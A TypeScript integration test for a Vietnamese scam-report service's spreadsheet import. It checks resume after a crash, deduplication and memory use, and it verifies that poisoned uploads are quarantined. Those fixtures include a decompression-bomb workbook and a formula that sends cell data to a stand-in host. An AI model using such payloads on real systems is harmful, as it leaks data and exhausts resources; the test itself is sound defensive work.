import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, expect, test } from 'vitest';
import { AGENCIES, COMPETENCES } from '#catalogue/agencies-cao-bang.ts';
import { readRows, type SheetRow } from '#modules/channels/sheet/rows.ts';
import { importAgencies } from '#modules/directory/index.ts';
import { system } from '#platform/actor.ts';
import { SYSTEM_CLOCK } from '#platform/clock.ts';
import { connect, inTransaction } from '#platform/db.ts';
import { startPostgres } from '#platform/postgres.ts';
import { ROOT } from '../../src/app.ts';
import { readConfig } from '../../src/config.ts';
import { holdDesk } from '../../src/server.ts';
import { unescapeHtml } from '../support/browser.ts';
import { addOfficer, TEST_PASSWORD } from '../support/identity.ts';
import { agencyId } from '../support/people.ts';
import { workbook, zip, type Cell } from '../support/workbook.ts';

const ROWS = 100_000;
const REFUSED = ROWS / 100;
const MOST_MEGABYTES = 300;
const SHEETS = '/can-bo/bang-tinh';
const HEADER = ['Mã hồ sơ', 'Nội dung', 'Loại hình', 'Đường link', 'Số điện thoại lừa đảo', 'Số tiền thiệt hại', 'Ngày xảy ra', 'Xã/phường'];
/** What is wrong with every hundredth row, in turn: column, cell, and words that say what to do. */
const FAULTS = [
  { column: 2, cell: 'Chuyện linh tinh', says: /C: Loại\. Chưa rõ từ này/ },
  { column: 1, cell: 'bị lừa', says: /B: Nội dung phản ánh\. Ghi thêm/ },
  { column: 5, cell: 'rất nhiều tiền', says: /F: Số tiền thiệt hại\. Không đọc được số tiền/ },
  { column: 7, cell: 'Xã Không Có Thật', says: /H: Xã\/phường\. Không có xã, phường này/ },
] as const;

const home = await mkdtemp(join(tmpdir(), 'lachan-sheet-'));
const children: ChildProcess[] = [];

afterAll(async () => {
  for (const child of children) child.kill('SIGKILL');
  await (await startPostgres({ home })).stop();
  await rm(home, { recursive: true, force: true });
});

/** A row as offices write them; the same number always gives the same row. */
function row(n: number): string[] {
  const cells = [
    `HS-${String(n).padStart(6, '0')}`,
    `Người dân thứ ${n} cho biết có người gọi tự xưng nhân viên ngân hàng, gửi đường dẫn bảo cập nhật sinh trắc học; làm theo thì bị trừ tiền trong tài khoản.`,
    ['Lừa đảo', 'Lừa đảo qua mạng', 'Giả mạo ngân hàng', 'Việc nhẹ lương cao'][n % 4]!,
    `https://sinh-trac-${n % 3000}.example/vn`, `09${String(10_000_000 + (n * 7919) % 80_000_000)}`, `${1 + (n % 90)} triệu`, '20/11/2026', ['Phường Thục Phán', 'Không rõ', '01273'][n % 3]!,
  ];
  if (n % 100 !== 50) return cells;
  const { column, cell } = FAULTS[Math.floor(n / 100) % FAULTS.length]!;
  return cells.with(column, cell);
}

function* sheet(): Generator<readonly Cell[]> {
  yield HEADER;
  for (let n = 0; n < ROWS; n += 1) yield row(n);
}

const SETTINGS = { LACHAN_HOME: home, PORT: '0', HOST: '127.0.0.1', LOG_LEVEL: 'error', BASE_URL: '', LACHAN_DEMO: '1' };
const CLERK = 'hoa@demo.example';

/** The agencies of the sample province and one clerk, who signs in with a password alone. */
async function prepare(): Promise<void> {
  const held = await holdDesk(readConfig(SETTINGS), SYSTEM_CLOCK, 'test', () => {});
  await inTransaction(held.desk, system('test'), (tx) => importAgencies(tx, system('test'), AGENCIES, COMPETENCES));
  await addOfficer(held.desk, { agencyId: await agencyId(held.desk, 'so-vhttdl'), roles: ['clerk'], name: 'Lục Thị Hoa', email: CLERK, demo: true });
  await held.close();
}

/** What the launcher gives to Node; how much memory V8 takes before it looks for garbage depends on it. */
const FLAGS = /exec "\$node"([^"\n]*)"\$root\/\.build/.exec(readFileSync(join(ROOT, 'lachan'), 'utf8'))![1]!.trim().split(/\s+/);

/** The service as a process of its own; the second time it finds what the first one left. */
async function start(): Promise<{ child: ChildProcess; url: string }> {
  const child = spawn(process.execPath, [...FLAGS, join(ROOT, '.build/main.js'), 'start'], { env: { ...process.env, ...SETTINGS }, stdio: ['ignore', 'pipe', 'pipe'] });
  children.push(child);
  let printed = '';
  child.stderr!.on('data', (chunk) => (printed += String(chunk)));
  for await (const chunk of child.stdout!) {
    printed += String(chunk);
    const url = /http:\/\/[^\s/]+/.exec(printed)?.[0];
    if (!url) continue;
    child.stdout!.resume();
    return { child, url: url.replace('localhost', '127.0.0.1') };
  }
  throw new Error(printed);
}

/** Most memory a process ever had in RAM, in megabytes. */
function peakOf({ pid }: ChildProcess): number {
  return Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))![1]) / 1024;
}

/** What a browser does: keeps the cookies, sends forms from our own pages, follows 303 by hand. */
class Visitor {
  readonly url: string;
  readonly cookies = new Map<string, string>();

  constructor(url: string, cookies: ReadonlyMap<string, string> = new Map()) {
    this.url = url;
    this.cookies = new Map(cookies);
  }

  async ask(path: string, body?: FormData | URLSearchParams): Promise<Response> {
    const cookie = [...this.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
    const answer = await fetch(this.url + path, { method: body ? 'POST' : 'GET', redirect: 'manual', headers: { cookie, origin: this.url, 'sec-fetch-site': 'same-origin' }, ...(body && { body }) });
    for (const line of answer.headers.getSetCookie()) {
      const [, name = '', value = ''] = /^([^=]+)=([^;]*)/.exec(line) ?? [];
      this.cookies.set(name, value);
    }
    return answer;
  }

  async page(path: string): Promise<string> {
    const answer = await this.ask(path);
    expect({ path, status: answer.status }).toEqual({ path, status: 200 });
    return answer.text();
  }

  async signIn(): Promise<void> {
    const answer = await this.ask('/dang-nhap', new URLSearchParams({ thu: CLERK, 'mat-khau': TEST_PASSWORD }));
    expect(answer.status).toBe(303);
  }

  /** Sends a file; gives the address of its page. */
  async upload(name: string, bytes: Buffer): Promise<string> {
    const form = new FormData();
    form.set('tep', new File([new Uint8Array(bytes)], name));
    const answer = await this.ask(SHEETS, form);
    expect(answer.status).toBe(303);
    return answer.headers.get('location')!;
  }

  /** Sends the form of the mapping page as it stands, like somebody who agrees with all of it. */
  async begin(path: string): Promise<void> {
    const html = await this.page(path);
    expect(html).toContain('Mỗi cột trong bảng là gì?');
    const answer = await this.ask(`${path}/bat-dau`, formOf(html));
    expect({ status: answer.status, location: answer.headers.get('location') }).toEqual({ status: 303, location: path });
  }
}

/** Hidden fields and chosen options of a page. */
function formOf(html: string): URLSearchParams {
  const hidden = [...html.matchAll(/<input type="hidden" name="([^"]*)" value="([^"]*)"/g)].map(([, name, value]) => [name!, value!]);
  const selects = [...html.matchAll(/<select[^>]* name="([^"]*)"[^>]*>(.*?)<\/select>/gs)].map(([, name, options]) => [name!, /<option selected value="([^"]*)"|<option value="([^"]*)" selected/.exec(options!)?.slice(1).find(Boolean) ?? '']);
  return new URLSearchParams([...hidden, ...selects].map(([name, value]) => [unescapeHtml(name!), unescapeHtml(value!)]));
}

const text = (html: string): string => unescapeHtml(html.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' '));
const number = (shown: string | undefined): number => Number((shown ?? '0').replaceAll('.', ''));

/** Rows read so far, as the page says; Infinity when the page says it is done. */
function progressOf(html: string): number {
  const said = text(html);
  if (/Đã nhập xong/.test(said)) return Infinity;
  expect(said).toMatch(/Đang nhập/);
  return number(/([\d.]+) \/ 100\.000 dòng/.exec(said)?.[1]);
}

async function until(visitor: Visitor, path: string, rows: number): Promise<string> {
  for (;;) {
    const html = await visitor.page(path);
    if (progressOf(html) >= rows) return html;
    await sleep(500);
  }
}

test('100,000 rows: killed halfway, gone on with by itself, each good row once; sent again nothing comes twice; in little memory', { timeout: 360_000 }, async () => {
  const begun = performance.now();
  const took = (what: string) => console.log(`${what}: ${((performance.now() - begun) / 1000).toFixed(1)} s`);
  const [bytes] = await Promise.all([workbook(sheet()), prepare()]);
  const first = await start();
  took(`${(bytes.length / 1e6).toFixed(1)} MB written, server up`);
  const before = new Visitor(first.url);
  await before.signIn();
  const path = await before.upload('phan-anh-quy-4.xlsx', bytes);
  await before.begin(path);
  took('started');
  await until(before, path, ROWS / 2);
  const peaks = [peakOf(first.child)];
  first.child.kill('SIGKILL');
  await once(first.child, 'exit');
  took('killed');

  const { child, url } = await start();
  const visitor = new Visitor(url, before.cookies);
  expect(progressOf(await visitor.page(path))).toBeLessThan(ROWS);
  const done = text(await until(visitor, path, ROWS));
  took('done');
  expect(done).toContain('Đã đọc 100.000 dòng, nhận 99.000 phản ánh mới.');
  expect(done).toContain('1.000 dòng cần sửa.');
  expect(done).not.toContain('đã có từ trước');

  const answer = await visitor.ask(`${path}/can-sua.xlsx`);
  expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="can-sua.xlsx"/);
  const wrong: SheetRow[] = [];
  for await (const one of readRows({ name: 'can-sua.xlsx', bytes: Buffer.from(await answer.arrayBuffer()) })) wrong.push(one);
  expect(wrong).toHaveLength(REFUSED + 1);
  expect(wrong[0]!.cells).toEqual([...HEADER, 'Cần sửa']);
  wrong.slice(1).forEach(({ cells }, index) => {
    const n = index * 100 + 50;
    const { says, column, cell } = FAULTS[index % FAULTS.length]!;
    expect(cells.slice(0, 8)).toEqual(row(n));
    expect(cells[column]).toBe(cell);
    expect(cells[8]).toMatch(new RegExp(`^Dòng ${n + 2}: ${says.source}`));
  });

  const again = await visitor.upload('phan-anh-quy-4.xlsx', bytes);
  await visitor.begin(again);
  const repeated = text(await until(visitor, again, ROWS));
  took('sent again');
  expect(repeated).toContain('Đã đọc 100.000 dòng, nhận 0 phản ánh mới.');
  expect(repeated).toContain('99.000 dòng đã có từ trước');
  expect(repeated).toContain('1.000 dòng cần sửa.');

  await poisoned(visitor);
  peaks.push(peakOf(child));
  console.log(`peak memory: ${peaks.map((peak) => peak.toFixed(0)).join(' and ')} MB`);
  const exited = once(child, 'exit');
  child.kill('SIGTERM');
  await exited;
  took('stopped');

  const server = await startPostgres({ home });
  const { db } = connect(server.database('lachan', 'lachan_owner'), 1);
  const { reports } = await db.selectFrom('report').select((eb) => eb.fn.countAll<number>().as('reports')).where('channel', '=', 'spreadsheet').where('narrative', 'like', 'Người dân thứ %').executeTakeFirstOrThrow();
  const { words } = await db.selectFrom('report').select((eb) => eb.fn.count<number>('narrative').distinct().as('words')).where('channel', '=', 'spreadsheet').where('narrative', 'like', 'Người dân thứ %').executeTakeFirstOrThrow();
  await db.destroy();
  expect({ reports, words }).toEqual({ reports: ROWS - REFUSED, words: ROWS - REFUSED });
  expect(Math.max(...peaks)).toBeLessThan(MOST_MEGABYTES);
});

/** Files made to harm whoever opens them are kept unopened, with the reason in words, and the desk goes on. */
async function poisoned(visitor: Visitor): Promise<void> {
  const spaces = ' '.repeat(1_000_000);
  function* bomb(): Generator<string> {
    for (let n = 0; n < 200; n += 1) yield spaces;
  }
  const files: Readonly<Record<string, readonly [bytes: Buffer, says: RegExp]>> = {
    'bom.xlsx': [await workbook([HEADER, row(1)], [{ name: 'xl/worksheets/sheet1.xml', text: bomb() }]), /mở ra sẽ lớn gấp hàng trăm lần/],
    'lien-ket.xlsx': [await workbook([HEADER, row(1)], [{ name: 'xl/externalLinks/externalLink1.xml', text: ['<externalLink/>'] }]), /lấy dữ liệu từ nơi khác/],
    'cong-thuc.xlsx': [await workbook([[...HEADER.slice(0, 7), { formula: 'WEBSERVICE("https://nghe-len.example/?"&A2)', stored: 'Xã/phường' }], row(1)]), /Dòng tiêu đề có công thức/],
    'khong-phai.xlsx': [await zip([{ name: 'doc.txt', text: ['không phải bảng tính'] }]), /không phải là bảng tính/],
  };
  for (const [name, [bytes, says]] of Object.entries(files)) {
    const path = await visitor.upload(name, bytes);
    const shown = text(await visitor.page(path));
    expect(shown).toMatch(says);
    expect(shown).toContain(`Chưa mở ${name}`);
    const original = await visitor.ask(`${path}/tep-goc`, new URLSearchParams());
    expect(original.headers.get('content-type')).toBe('application/octet-stream');
    expect(original.headers.get('content-disposition')).toContain(`filename="${name}.nguy-hiem"`);
    expect(Buffer.from(await original.arrayBuffer()).equals(bytes)).toBe(true);
    expect((await visitor.ask(`${path}/bat-dau`, new URLSearchParams())).headers.get('location')).toBe(path);
  }
  expect(await (await visitor.ask('/healthz')).text()).toBe('ok');
}
